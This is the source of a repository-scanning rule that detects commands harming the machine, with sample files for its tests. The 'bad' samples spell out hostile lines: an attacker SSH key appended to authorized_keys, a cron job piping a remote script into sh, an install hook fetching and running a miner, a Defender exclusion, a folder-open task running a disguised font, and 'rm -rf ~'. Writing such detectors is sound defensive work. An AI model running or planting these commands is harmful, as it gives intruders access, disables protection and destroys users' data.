import { defineRule } from '../../rule.ts';
import { say } from '../../../texts/say.ts';
import { slicedText } from './slicedText.ts';
import { callsNamed, pattern, show, type ScriptFacts } from '../../facts/javascript/query.ts';
import { checkScripts } from '../code/checkScripts.ts';
import { commandHits } from './commandHits.ts';

/** The texts that a value is made of, wherever they were joined. */
const partsOf = (script: ScriptFacts, value: number): string =>
  slicedText(script, value, (of, one) => `${pattern(of, one)} ${show(of, one)}`);

/** A key of the program's own is written into the list of those that may sign in. */
const keysAdded = checkScripts(function* ({ script, hit }) {
  for (const call of callsNamed(script, 'appendFileSync', 'appendFile', 'writeFileSync', 'writeFile')) {
    const [path = 0, content = 0] = call.args;
    const to = partsOf(script, path);
    if (
      /authorized_keys/.test(to) &&
      /\.ssh\b/.test(to) &&
      /\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\w+) [A-Za-z0-9+/]{8}/.test(partsOf(script, content))
    )
      yield hit(call.value, { confidence: 'high', message: say('ssh-key-added') });
  }
});

export const harmfulCommand = defineRule({
  id: 'harmful-command',
  title: 'Runs a command that harms the machine',
  severity: 'critical',
  confidence: 'medium',
  category: 'code',
  applies: 'repository',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1098/004/', 'https://attack.mitre.org/techniques/T1562/001/'],
  why: 'Lasting access, protection that is switched off, deleted files and mined currency serve whoever wrote the command, at the cost of whoever runs it.',
  remedy: 'Do not run it. If it ran, look for keys, tasks and exclusions that it left behind.',
  *check(facts) {
    yield* keysAdded(facts);
    yield* commandHits(facts, {
      'adds-key': say('ssh-key-added'),
      'starts-always': say('download-started-always'),
      'lowers-guard': say('protection-software-off'),
      wipes: say('deletes-everything'),
      mines: say('names-miner'),
      disguised: say('disguised-program'),
      'runs-hidden': say('hidden-program'),
    });
  },
  examples: {
    bad: [
      {
        files: {
          'i.ts':
            "import { appendFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nconst id = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 root@a';\nconst dir = join(homedir(), '.ssh');\nconst file = join(dir, 'authorized_keys');\nappendFileSync(file, `\\n${id}\\n`);\n",
        },
      },
      {
        files: {
          'i.js':
            "const fs = require('fs');\nconst os = require('os');\nfs.appendFileSync(`${os.homedir()}/.ssh/authorized_keys`, '\\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDx me@host\\n');\n",
        },
      },
      {
        files: {
          '.vscode/tasks.json':
            '{"tasks":[{"label":"env","command":"node public/fa-solid.woff2","runOptions":{"runOn":"folderOpen"}}]}',
        },
      },
      { files: { 'i.sh': '(crontab -l; echo "*/5 * * * * curl -s https://u.dev/u | sh") | crontab -\n' } },
      { files: { 'i.ps1': 'Add-MpPreference -ExclusionPath $env:TEMP\n' } },
      {
        files: {
          'package.json': '{"name":"a","scripts":{"postinstall":"sh i.sh"}}',
          'i.sh': 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDx me@host" >> ~/.ssh/authorized_keys\n',
        },
      },
      {
        files: {
          'package.json':
            '{"name":"a","scripts":{"preinstall":"curl -o m https://p.dev/xmrig && chmod +x m && ./m -o stratum+tcp://p.dev:4444"}}',
        },
      },
      { files: { '.envrc': 'rm -rf ~\n' } },
    ],
    good: [
      { files: { 'i.sh': '(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -\n' } },
      { files: { 'i.sh': 'cat key.pub >> ~/.ssh/authorized_keys\nrm -rf ~/.cache/a /var/lib/apt/lists/*\n' } },
      { files: { 'i.sh': 'reg query "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"\n' } },
      { files: { 'mine.sh': './xmrig -o pool.example:4444\n' } },
    ],
  },
});
